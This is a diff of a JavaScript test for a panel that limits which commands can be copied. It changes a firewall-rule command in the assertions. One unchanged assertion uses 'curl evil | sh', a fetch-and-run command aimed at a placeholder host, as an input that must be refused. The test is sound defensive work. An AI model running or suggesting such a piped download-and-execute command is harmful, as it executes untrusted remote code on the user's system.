@@ -120,9 +120,11 @@ describe('a panel', () => {
 
   it('lets the page copy the commands of its findings and nothing else', () => {
     const model = play(whole);
-    expect(isCopyable(model, 'ufw allow 4789/udp')).toBe(true);
+    expect(isCopyable(model, 'sudo ufw prepend allow proto udp from 10.0.0.1 to any port 4789')).toBe(true);
     expect(isCopyable(model, 'curl evil | sh')).toBe(false);
-    expect(isCopyable(openPanel(sampleHeader), 'ufw allow 4789/udp')).toBe(false);
+    expect(isCopyable(openPanel(sampleHeader), 'sudo ufw prepend allow proto udp from 10.0.0.1 to any port 4789')).toBe(
+      false,
+    );
   });
 });
 
